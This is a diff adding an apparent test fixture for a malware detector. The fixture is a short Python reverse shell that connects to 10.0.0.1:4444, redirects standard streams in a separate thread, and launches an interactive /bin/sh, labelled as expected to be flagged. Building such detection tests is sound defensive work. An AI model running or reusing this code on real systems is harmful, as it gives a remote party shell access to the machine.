@@ -0,0 +1,18 @@
+# 回连的各个步骤分散在不同线程中执行，线程级上下文分别记录，由解释器级证据库合并
+# detect-expect: 'IsMalicious': True, 'Desc': 'Reverse shell'
+import os, socket, subprocess, threading
+
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(("10.0.0.1", 4444))
+
+
+def redirect():
+    os.dup2(s.fileno(), 0)
+    os.dup2(s.fileno(), 1)
+    os.dup2(s.fileno(), 2)
+
+
+t = threading.Thread(target=redirect)
+t.start()
+t.join()
+subprocess.call(["/bin/sh", "-i"])